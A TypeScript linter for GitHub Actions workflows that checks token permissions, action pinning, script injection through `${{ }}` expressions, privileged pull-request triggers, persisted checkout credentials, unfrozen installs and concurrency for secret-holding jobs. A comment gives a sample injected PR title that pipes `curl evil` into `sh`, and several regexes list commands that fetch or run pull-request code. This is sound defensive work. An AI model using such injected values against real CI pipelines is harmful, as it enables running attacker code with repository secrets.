/**
 * The hardening rules for .github/workflows (issue #8), written as functions over one parsed
 * workflow so that the repository's workflows and small deliberately bad ones go through the same
 * code: a rule that is never seen to fail proves nothing.
 *
 * Sources: GitHub's "Secure use reference", OpenSSF Scorecard (Token-Permissions,
 * Pinned-Dependencies, Dangerous-Workflow) and zizmor's audits, as summarised in
 * ../shared/research/actions.md. Each rule errs on the side of reporting: a false alarm costs a
 * line of YAML (an env: indirection, a comment), a miss can cost the PagerDuty account.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { LineCounter, parseDocument, type Document } from 'yaml';

export type RuleId =
  | 'permissions'
  | 'pinned-actions'
  | 'untrusted-expressions'
  | 'privileged-triggers'
  | 'checkout-credentials'
  | 'frozen-lockfile'
  | 'write-concurrency';

export interface Violation {
  rule: RuleId;
  file: string;
  line: number | undefined;
  /** The job and step, in words a reader finds in the file. */
  where: string;
  message: string;
}

type Dict = Record<string, unknown>;

export interface Step {
  id?: string;
  name?: string;
  uses?: string;
  run?: string;
  with?: Dict;
  env?: Dict;
}

export interface Job {
  name?: string;
  if?: string;
  permissions?: unknown;
  concurrency?: unknown;
  environment?: unknown;
  env?: Dict;
  strategy?: { matrix?: unknown };
  steps?: Step[];
  uses?: string;
  with?: Dict;
  secrets?: unknown;
}

export interface WorkflowData {
  name?: string;
  on?: unknown;
  permissions?: unknown;
  concurrency?: unknown;
  env?: Dict;
  jobs?: Record<string, Job>;
}

export interface Workflow {
  /** Relative to the repository root, e.g. `.github/workflows/ci.yml`. */
  file: string;
  text: string;
  data: WorkflowData;
  doc: Document;
  lines: LineCounter;
}

const isDict = (v: unknown): v is Dict => typeof v === 'object' && v !== null && !Array.isArray(v);
const str = (v: unknown): string => (typeof v === 'string' ? v : '');

export function parseWorkflow(file: string, text: string): Workflow {
  const lines = new LineCounter();
  const doc = parseDocument(text, { lineCounter: lines });
  if (doc.errors.length) throw new Error(`${file}: ${doc.errors.map((e) => e.message).join('; ')}`);
  const data = doc.toJS() as unknown;
  if (!isDict(data)) throw new Error(`${file}: not a mapping`);
  return { file, text, data: data as WorkflowData, doc, lines };
}

export function repoWorkflows(root: string): Workflow[] {
  const dir = join(root, '.github/workflows');
  return readdirSync(dir)
    .filter((f) => /\.ya?ml$/.test(f))
    .sort()
    .map((f) => parseWorkflow(`.github/workflows/${f}`, readFileSync(join(dir, f), 'utf8')));
}

export function formatViolation(v: Violation): string {
  return `${v.file}${v.line ? `:${v.line}` : ''} ${v.where}: ${v.message} [${v.rule}]`;
}

// ---------------------------------------------------------------------------------------------
// Walking a workflow

export function jobsOf(wf: Workflow): [string, Job][] {
  return isDict(wf.data.jobs) ? Object.entries(wf.data.jobs).filter((e): e is [string, Job] => isDict(e[1])) : [];
}

export function stepsOf(job: Job): Step[] {
  return Array.isArray(job.steps) ? job.steps.filter(isDict) : [];
}

/** The events that trigger the workflow, whichever of the three `on:` spellings it uses. */
export function triggersOf(wf: Workflow): string[] {
  const on = wf.data.on;
  if (typeof on === 'string') return [on];
  if (Array.isArray(on)) return on.map(String);
  return isDict(on) ? Object.keys(on) : [];
}

function lineAt(wf: Workflow, path: (string | number)[]): number | undefined {
  const node = wf.doc.getIn(path, true) as { range?: [number, number, number] } | undefined;
  return node?.range ? wf.lines.linePos(node.range[0]).line : undefined;
}

function stepLabel(step: Step): string {
  const label = step.name ?? step.id ?? step.uses ?? str(step.run).trim().split('\n')[0] ?? '';
  return label.length > 60 ? `${label.slice(0, 57)}…` : label;
}

const jobWhere = (jobId: string) => `job "${jobId}"`;
const stepWhere = (jobId: string, i: number, step: Step) => `job "${jobId}" step ${i + 1} (${stepLabel(step)})`;

type Emit = (where: string, path: (string | number)[], message: string) => void;

function collector(rule: RuleId, wf: Workflow): { out: Violation[]; emit: Emit } {
  const out: Violation[] = [];
  const emit: Emit = (where, path, message) =>
    out.push({ rule, file: wf.file, line: lineAt(wf, path), where, message });
  return { out, emit };
}

const isCheckout = (uses: string | undefined) => /^actions\/checkout@/i.test(uses ?? '');
const isLocal = (uses: string) => uses.startsWith('./');
const isDocker = (uses: string) => uses.startsWith('docker://');

// ---------------------------------------------------------------------------------------------
// permissions: the default token is read-only; writes are granted per job, by name.

function checkPermissions(wf: Workflow): Violation[] {
  const { out, emit } = collector('permissions', wf);
  const top = wf.data.permissions;
  if (top === undefined) {
    // Without it every job gets the repository's default token, which may be read/write.
    emit(
      'workflow',
      [],
      'no top-level `permissions:`; declare `permissions: {}` (or read-only scopes) and grant writes per job',
    );
  } else if (!isDict(top)) {
    // read-all grants every scope, most of which no job here needs; name the scopes instead.
    emit(
      'workflow',
      ['permissions'],
      `top-level \`permissions: ${String(top)}\`; use \`{}\` or named read-only scopes`,
    );
  } else {
    const writes = Object.entries(top).filter(([, v]) => v !== 'read' && v !== 'none');
    if (writes.length)
      emit(
        'workflow',
        ['permissions'],
        `top-level permissions grant ${writes.map(([k, v]) => `${k}: ${String(v)}`).join(', ')}; grant writes in the job that needs them`,
      );
  }
  for (const [id, job] of jobsOf(wf)) {
    if (typeof job.permissions === 'string')
      emit(
        jobWhere(id),
        ['jobs', id, 'permissions'],
        `\`permissions: ${job.permissions}\`; name the scopes the job needs`,
      );
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// pinned-actions: a tag can be moved to other code by whoever controls the action's repository;
// a commit SHA cannot. The `# vX.Y.Z` comment is what Dependabot reads and updates, and what a
// reviewer reads.

const SHA_PINNED = /^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/;
const VERSION_COMMENT = /#\s*v\d+\.\d+\.\d+\b/;
const DIGEST_PINNED = /^docker:\/\/[^@\s]+@sha256:[0-9a-f]{64}$/;

function checkPinned(wf: Workflow): Violation[] {
  const { out, emit } = collector('pinned-actions', wf);
  const rawLines = wf.text.split(/\r?\n/);
  const check = (where: string, path: (string | number)[], uses: string) => {
    if (isLocal(uses)) return;
    if (isDocker(uses)) {
      if (!DIGEST_PINNED.test(uses)) emit(where, path, `\`${uses}\` is not pinned to an image digest (@sha256:…)`);
      return;
    }
    if (!SHA_PINNED.test(uses)) {
      emit(where, path, `\`${uses}\` is not pinned to a full 40-character commit SHA`);
      return;
    }
    const line = lineAt(wf, path);
    const raw = line ? (rawLines[line - 1] ?? '') : '';
    if (!raw.includes(uses) || !VERSION_COMMENT.test(raw.slice(raw.indexOf(uses) + uses.length))) {
      emit(where, path, `\`${uses}\` has no \`# vX.Y.Z\` comment on its line naming the version the SHA is`);
    }
  };
  for (const [id, job] of jobsOf(wf)) {
    if (typeof job.uses === 'string') check(jobWhere(id), ['jobs', id, 'uses'], job.uses);
    stepsOf(job).forEach((s, i) => {
      if (typeof s.uses === 'string') check(stepWhere(id, i, s), ['jobs', id, 'steps', i, 'uses'], s.uses);
    });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// untrusted-expressions: `${{ }}` is pasted into the script text before the shell (or the
// github-script JavaScript) parses it, so a PR title like `a"; curl evil | sh; "` becomes code.
// Data reaches scripts through `env:` and is read as "$NAME" instead.
//
// The allow-list. Everything not on it is reported:
// - github.<key> for the keys in SAFE_GITHUB: ids, numbers, SHAs, names fixed by the repository
//   or by GitHub. Not github.ref, ref_name, head_ref, base_ref, workflow_ref (branch names are
//   chosen by whoever pushes, and may hold `$(…)`), nor the whole `github` object.
// - github.event.… only when the last property is in SAFE_EVENT_LEAVES (numbers, ids, SHAs,
//   booleans, timestamps and GitHub's own enums) and the path is not under `inputs` or
//   `client_payload` (free text from whoever dispatches). So titles, bodies, branch names,
//   labels, commit messages, author names and emails, page names, logins — all reported.
// - inputs.<name> only when declared (workflow_dispatch / workflow_call) as boolean, number,
//   choice or environment; strings, and names not declared, are free text.
// - steps.<id>.outcome|conclusion and needs.<id>.result (enums); not their outputs, which often
//   carry the very text this rule keeps out.
// - matrix, vars, secrets, runner, job, strategy: written by the repository's maintainers or by
//   the runner. Secrets are not an injection risk (they are masked); whether they belong in a
//   script is another question.
// - env.* is reported: its value may itself come from an untrusted expression, and "$NAME" is
//   the safe spelling anyway.

const SAFE_GITHUB = new Set([
  'action',
  'actor',
  'actor_id',
  'api_url',
  'event_name',
  'graphql_url',
  'job',
  'ref_type',
  'repository',
  'repository_id',
  'repository_owner',
  'repository_owner_id',
  'retention_days',
  'run_attempt',
  'run_id',
  'run_number',
  'server_url',
  'sha',
  'token',
  'triggering_actor',
  'workflow',
  'workflow_sha',
  'workspace',
]);

const SAFE_EVENT_LEAVES = new Set([
  'action',
  'additions',
  'after',
  'author_association',
  'before',
  'changed_files',
  'check_suite_id',
  'closed_at',
  'commit_id',
  'conclusion',
  'created',
  'created_at',
  'deleted',
  'deletions',
  'draft',
  'forced',
  'head_sha',
  'id',
  'locked',
  'merge_commit_sha',
  'merged',
  'merged_at',
  'node_id',
  'number',
  'run_attempt',
  'run_id',
  'run_number',
  'sha',
  'state',
  'status',
  'updated_at',
  'workflow_id',
]);

const SAFE_INPUT_TYPES = new Set(['boolean', 'number', 'choice', 'environment']);

/** Declared input types by lower-cased name; when two triggers declare one, the freer wins. */
function inputTypes(wf: Workflow): Map<string, string> {
  const types = new Map<string, string>();
  const on = wf.data.on;
  if (!isDict(on)) return types;
  for (const trigger of ['workflow_dispatch', 'workflow_call']) {
    const t = on[trigger];
    const inputs = isDict(t) && isDict(t.inputs) ? t.inputs : {};
    for (const [name, spec] of Object.entries(inputs)) {
      const type = isDict(spec) && typeof spec.type === 'string' ? spec.type : 'string';
      const key = name.toLowerCase();
      if (!types.has(key) || !SAFE_INPUT_TYPES.has(type)) types.set(key, type);
    }
  }
  return types;
}

/** Context references in one expression, as lower-cased property paths (`*` for an index). */
export function contextReferences(expression: string): string[][] {
  const normalized = expression
    // github['head_ref'] is github.head_ref
    .replace(/\[\s*'((?:[^']|'')*)'\s*\]/g, (_m, key: string) => `.${key.replace(/''/g, "'")}`)
    // other string literals are data, not context: 'github.head_ref' in a string is not a reference
    .replace(/'(?:[^']|'')*'/g, "''")
    .replace(/\[[^\]]*\]/g, '.*');
  const refs: string[][] = [];
  const re =
    /(?<![\w.-])(github|inputs|env|steps|needs|jobs|matrix|vars|secrets|runner|job|strategy)\b((?:\s*\.\s*(?:[A-Za-z_][\w-]*|\*))*)/gi;
  for (const m of normalized.matchAll(re)) {
    const rest = (m[2] ?? '').replace(/\s+/g, '').split('.').filter(Boolean);
    // Property names are case-insensitive in expressions: github.EVENT.Issue.Title is the title.
    refs.push([m[1]!, ...rest].map((s) => s.toLowerCase()));
  }
  return refs;
}

/** Why a reference is untrusted, or undefined when it is on the allow-list. */
export function untrustedReason(
  ref: readonly string[],
  inputs: ReadonlyMap<string, string> = new Map(),
): string | undefined {
  const [context, key, ...path] = ref;
  switch (context) {
    case 'github': {
      if (key === undefined) return 'the whole github context includes branch names and event text';
      if (key === 'event') {
        const leaf = path.at(-1);
        if (leaf === undefined) return 'the whole event payload is attacker-influenced text';
        if (path[0] === 'inputs' || path[0] === 'client_payload') return 'dispatch inputs and payloads are free text';
        return SAFE_EVENT_LEAVES.has(leaf)
          ? undefined
          : `event property "${leaf}" is not known to be a number, id or enum`;
      }
      return path.length === 0 && SAFE_GITHUB.has(key)
        ? undefined
        : `github.${key} can hold text chosen by whoever pushes or opens the pull request`;
    }
    case 'inputs': {
      if (key === undefined || key === '*') return 'all inputs, including free-text ones';
      const type = inputs.get(key);
      return type !== undefined && SAFE_INPUT_TYPES.has(type)
        ? undefined
        : `input "${key}" is ${type ? `of type ${type}` : 'not declared'}, i.e. free text`;
    }
    case 'env':
      return 'an env value may carry untrusted text; read "$NAME" in the script instead';
    case 'steps':
      return path.length === 1 && (path[0] === 'outcome' || path[0] === 'conclusion')
        ? undefined
        : 'step outputs may carry untrusted text';
    case 'needs':
    case 'jobs':
      return path.length === 1 && path[0] === 'result' ? undefined : 'job outputs may carry untrusted text';
    default:
      return undefined;
  }
}

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;

/** `${{ }}` expressions in a script that reference something off the allow-list. */
export function untrustedExpressions(script: string, inputs: ReadonlyMap<string, string> = new Map()): string[] {
  const found: string[] = [];
  for (const m of script.matchAll(EXPRESSION)) {
    for (const ref of contextReferences(m[1] ?? '')) {
      const reason = untrustedReason(ref, inputs);
      if (reason) found.push(`\`${m[0].replace(/\s+/g, ' ')}\` (${reason})`);
    }
  }
  return [...new Set(found)];
}

const isGithubScript = (uses: string | undefined) => /^actions\/github-script@/i.test(uses ?? '');

function checkUntrustedExpressions(wf: Workflow): Violation[] {
  const { out, emit } = collector('untrusted-expressions', wf);
  const inputs = inputTypes(wf);
  for (const [id, job] of jobsOf(wf)) {
    stepsOf(job).forEach((s, i) => {
      const targets: [string, string][] = [];
      if (typeof s.run === 'string') targets.push(['run', s.run]);
      if (isGithubScript(s.uses) && typeof s.with?.script === 'string') targets.push(['with.script', s.with.script]);
      for (const [field, script] of targets) {
        for (const e of untrustedExpressions(script, inputs)) {
          const path = field === 'run' ? ['jobs', id, 'steps', i, 'run'] : ['jobs', id, 'steps', i, 'with', 'script'];
          emit(
            stepWhere(id, i, s),
            path,
            `${e} is expanded into \`${field}\`; pass it through \`env:\` and read "$VAR"`,
          );
        }
      }
    });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// privileged-triggers: pull_request_target, workflow_run and issue_comment run with the base
// repository's write token and secrets even for pull requests from forks. That is safe only as
// long as nothing from the pull request is executed: no checkout of its head, and nothing run
// from such a checkout. swap-check.yml is the model — it checks out the default branch and
// reads the pull request's files through the API as data.

export const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];

// A checkout ref/repository naming the PR's head, or computed from outputs or env, which this
// checker cannot prove to be the base.
const UNTRUSTED_REF =
  /pull_request\.head\b|pull_request\.merge_commit_sha|github\.head_ref|workflow_run\.head_|workflow_run\.pull_requests|github\.event\.number|refs\/pull\/|\bpull\/(?:\d|\$)|\$\{\{[^}]*\b(?:steps|needs|env|inputs)\./i;
const FETCHES_PR_CODE =
  /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull|checkout|switch|worktree)\b[^\n]*(?:refs\/pull\/|\bpull\/(?:\d|\$)|\$\{\{[^}]*(?:pull_request|head_ref|workflow_run)|\$\{?(?:GITHUB_HEAD_REF|HEAD_REF|HEAD_SHA|PR_HEAD\w*)\b)/i;
// Anything that runs code from the working tree: package scripts (including install lifecycle
// scripts), interpreters, build tools, and ./paths.
const EXECUTES_TREE =
  /(?:^|[\s;&|(`])(?:npm\s+(?:ci|install|i|run|run-script|test|t|start|exec|x|rebuild|pack|publish)\b|npx\b|yarn\b|pnpm\b|node\b|bun\b|deno\b|make\b|python3?\b|pip3?\s+install\b|(?:ba|z)?sh\s+\S+|go\s+(?:run|build|test|generate)\b|\.{1,2}\/\S+)/m;

function checkPrivilegedTriggers(wf: Workflow): Violation[] {
  const { out, emit } = collector('privileged-triggers', wf);
  const privileged = triggersOf(wf).filter((t) => PRIVILEGED_TRIGGERS.includes(t));
  if (privileged.length === 0) return out;
  const on = privileged.join('/');
  for (const [id, job] of jobsOf(wf)) {
    let untrustedAt: number | undefined;
    stepsOf(job).forEach((s, i) => {
      const where = stepWhere(id, i, s);
      if (isCheckout(s.uses)) {
        for (const key of ['ref', 'repository']) {
          const value = s.with?.[key];
          if (typeof value === 'string' && UNTRUSTED_REF.test(value)) {
            emit(
              where,
              ['jobs', id, 'steps', i, 'with', key],
              `on ${on}, checks out the pull request's code (\`${key}: ${value}\`) next to a privileged token; check out the base and read the PR through the API`,
            );
            untrustedAt ??= i;
          }
        }
      }
      if (typeof s.run === 'string' && FETCHES_PR_CODE.test(s.run)) {
        emit(
          where,
          ['jobs', id, 'steps', i, 'run'],
          `on ${on}, fetches the pull request's code next to a privileged token`,
        );
        untrustedAt ??= i;
      }
      if (untrustedAt === undefined || untrustedAt === i) return;
      if (typeof s.uses === 'string' && isLocal(s.uses)) {
        emit(
          where,
          ['jobs', id, 'steps', i, 'uses'],
          `on ${on}, runs the local action \`${s.uses}\` from the pull request's checkout (step ${untrustedAt + 1})`,
        );
      }
      if (typeof s.run === 'string' && EXECUTES_TREE.test(s.run)) {
        emit(
          where,
          ['jobs', id, 'steps', i, 'run'],
          `on ${on}, runs code from the pull request's checkout (step ${untrustedAt + 1}) with a privileged token`,
        );
      }
    });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// checkout-credentials: actions/checkout writes the token into .git/config by default, where
// every later step (and any artifact of the workspace) can read it. No workflow here pushes.

function checkCheckoutCredentials(wf: Workflow): Violation[] {
  const { out, emit } = collector('checkout-credentials', wf);
  for (const [id, job] of jobsOf(wf)) {
    stepsOf(job).forEach((s, i) => {
      if (!isCheckout(s.uses)) return;
      const persist = s.with?.['persist-credentials'];
      if (persist !== false && persist !== 'false')
        emit(
          stepWhere(id, i, s),
          ['jobs', id, 'steps', i, 'uses'],
          'actions/checkout without `persist-credentials: false` leaves the token in .git/config',
        );
    });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// frozen-lockfile: `npm install` resolves versions afresh (and may rewrite the lockfile), so CI
// could run code nobody reviewed; `npm ci` installs exactly package-lock.json.

const UNFROZEN_INSTALL: [RegExp, string][] = [
  [
    /(?:^|[\s;&|(`])npm\s+(?:-\S+\s+)*(?:install|i|in|ins|inst|insta|instal|isnt|isntall|add|update|up|upgrade|udpate|install-test|it)(?=$|[\s;&|)`])/m,
    'npm install/update',
  ],
  // Bare `yarn` installs too; `yarn run x` / `yarn test` do not.
  [
    /(?:^|[\s;&|(`])yarn(?:\s+install)?(?=[ \t]*(?:$|[;&|)`]|-))(?![^\n;&|]*--(?:frozen-lockfile|immutable))/m,
    'yarn install without --frozen-lockfile/--immutable',
  ],
  [/(?:^|[\s;&|(`])yarn\s+(?:add|upgrade|up)\b/m, 'yarn add/upgrade'],
  [
    /(?:^|[\s;&|(`])pnpm\s+(?:install|i)(?=$|[\s;&|)`])(?![^\n;&|]*--frozen-lockfile)/m,
    'pnpm install without --frozen-lockfile',
  ],
  [/(?:^|[\s;&|(`])pnpm\s+(?:add|update|up)\b/m, 'pnpm add/update'],
];

export function unfrozenInstalls(script: string): string[] {
  return UNFROZEN_INSTALL.filter(([re]) => re.test(script)).map(([, what]) => what);
}

function checkFrozenLockfile(wf: Workflow): Violation[] {
  const { out, emit } = collector('frozen-lockfile', wf);
  for (const [id, job] of jobsOf(wf)) {
    stepsOf(job).forEach((s, i) => {
      if (typeof s.run !== 'string') return;
      for (const what of unfrozenInstalls(s.run))
        emit(
          stepWhere(id, i, s),
          ['jobs', id, 'steps', i, 'run'],
          `${what}: use \`npm ci\`, which installs exactly the lockfile`,
        );
    });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// write-concurrency: a job that writes (any `write` permission, or any secret, which here are all
// credentials for PagerDuty or Slack) must run in a concurrency group, so two runs never
// interleave their writes (duplicate issues, half-applied schedules). `pages: write` and
// `id-token: write` count too: two Pages deploys at once race just the same.
// A job holding a PagerDuty write key must never be cancelled midway (an apply stops between
// writes), and its group must be one constant name, so every apply, from whatever ref or
// trigger, waits for the one before.

const SECRET_REF = /\bsecrets\s*(?:\.\s*([A-Za-z_]\w*)|\[\s*'([^']+)'\s*\])/gi;

function secretsOf(value: unknown): string[] {
  const names = [...JSON.stringify(value ?? null).matchAll(SECRET_REF)].map((m) => (m[1] ?? m[2] ?? '').toUpperCase());
  return [...new Set(names)].filter((n) => n !== 'GITHUB_TOKEN');
}

function envNames(...envs: unknown[]): string[] {
  return envs.flatMap((e) => (isDict(e) ? Object.keys(e) : []));
}

/** Why a job counts as writing, or [] when it only reads. */
export function writeReasons(wf: Workflow, job: Job): string[] {
  const reasons: string[] = [];
  const perms = job.permissions ?? wf.data.permissions;
  if (perms === 'write-all') reasons.push('permissions: write-all');
  if (isDict(perms)) for (const [k, v] of Object.entries(perms)) if (v === 'write') reasons.push(`${k}: write`);
  for (const name of secretsOf([job, wf.data.env])) reasons.push(`secret ${name}`);
  if (job.secrets === 'inherit') reasons.push('secrets: inherit');
  const env = envNames(wf.data.env, job.env, ...stepsOf(job).map((s) => s.env));
  for (const name of env.filter((n) => /pagerduty/i.test(n))) reasons.push(`env ${name}`);
  return [...new Set(reasons)];
}

const holdsPagerDutyWriteKey = (wf: Workflow, job: Job) =>
  secretsOf([job, wf.data.env]).some((n) => /PAGERDUTY/.test(n) && !/READ|MARK_KEY/.test(n));

function checkWriteConcurrency(wf: Workflow): Violation[] {
  const { out, emit } = collector('write-concurrency', wf);
  const top = wf.data.concurrency;
  for (const [id, job] of jobsOf(wf)) {
    const reasons = writeReasons(wf, job);
    if (reasons.length === 0) continue;
    const groups = [top, job.concurrency].filter((c) => c !== undefined && c !== null);
    if (groups.length === 0) {
      emit(
        jobWhere(id),
        ['jobs', id],
        `writes (${reasons.join(', ')}) without a \`concurrency\` group at workflow or job level`,
      );
      continue;
    }
    if (!holdsPagerDutyWriteKey(wf, job)) continue;
    for (const [c, path] of [
      [top, ['concurrency']],
      [job.concurrency, ['jobs', id, 'concurrency']],
    ] as [unknown, string[]][]) {
      if (!isDict(c)) continue;
      const cancel = c['cancel-in-progress'];
      if (cancel !== undefined && cancel !== false)
        emit(
          jobWhere(id),
          path,
          `holds a PagerDuty write key but \`cancel-in-progress: ${String(cancel)}\` may stop an apply between writes`,
        );
    }
    const own = isDict(job.concurrency) ? job.concurrency.group : job.concurrency;
    const group = own ?? (isDict(top) ? top.group : top);
    if (typeof group !== 'string' || group.includes('${{'))
      emit(
        jobWhere(id),
        ['jobs', id],
        `holds a PagerDuty write key; its concurrency group must be one fixed name so every apply waits for the last (is ${JSON.stringify(group)})`,
      );
  }
  return out;
}

// ---------------------------------------------------------------------------------------------

export const RULES: Record<RuleId, (wf: Workflow) => Violation[]> = {
  permissions: checkPermissions,
  'pinned-actions': checkPinned,
  'untrusted-expressions': checkUntrustedExpressions,
  'privileged-triggers': checkPrivilegedTriggers,
  'checkout-credentials': checkCheckoutCredentials,
  'frozen-lockfile': checkFrozenLockfile,
  'write-concurrency': checkWriteConcurrency,
};

export function checkWorkflow(wf: Workflow): Violation[] {
  return Object.values(RULES).flatMap((rule) => rule(wf));
}

// ---------------------------------------------------------------------------------------------
// Check names, as branch protection sees them

/**
 * The names of the check runs a job produces: its `name` (or id), once per matrix combination;
 * GitHub substitutes `${{ matrix.x }}` in the name, or appends "(v1, v2)" when the name has none.
 * Only literal list matrices are expanded, which is all this repository uses.
 */
export function checkNames(jobId: string, job: Job): string[] {
  const base = job.name ?? jobId;
  const m = job.strategy?.matrix;
  const matrix = isDict(m) ? m : undefined;
  const axes = matrix
    ? Object.entries(matrix).filter(
        (e): e is [string, unknown[]] => Array.isArray(e[1]) && e[0] !== 'include' && e[0] !== 'exclude',
      )
    : [];
  if (axes.length === 0) return [base];
  let combos: Record<string, unknown>[] = [{}];
  for (const [key, values] of axes) combos = combos.flatMap((c) => values.map((v) => ({ ...c, [key]: v })));
  return combos.map((c) => {
    const substituted = base.replace(/\$\{\{\s*matrix\.([\w-]+)\s*\}\}/g, (_m, k: string) => String(c[k]));
    return substituted !== base ? substituted : `${base} (${Object.values(c).map(String).join(', ')})`;
  });
}

// ---------------------------------------------------------------------------------------------
// CODEOWNERS: the last matching line wins, patterns follow .gitignore's rules.

function codeownersPattern(pattern: string): RegExp {
  const anchored = pattern.startsWith('/') || pattern.replace(/\/$/, '').includes('/');
  const dirOnly = pattern.endsWith('/');
  const body = pattern
    .replace(/^\//, '')
    .replace(/\/$/, '')
    .replace(/[.+^${}()|[\]\\]/g, '\\$&')
    .replace(/\?/g, '[^/]')
    .replace(/\*\*|\*/g, (star) => (star === '**' ? '.*' : '[^/]*'));
  return new RegExp(`^${anchored ? '' : '(?:.*/)?'}${body}${dirOnly ? '/.*' : '(?:/.*)?'}$`);
}

/** The owners CODEOWNERS gives a repository path ([] when no line matches or the match has none). */
export function codeOwners(codeowners: string, path: string): string[] {
  let owners: string[] = [];
  for (const line of codeowners.split('\n')) {
    const [pattern, ...rest] = line.replace(/#.*/, '').trim().split(/\s+/);
    if (!pattern) continue;
    if (codeownersPattern(pattern).test(path)) owners = rest;
  }
  return owners;
}
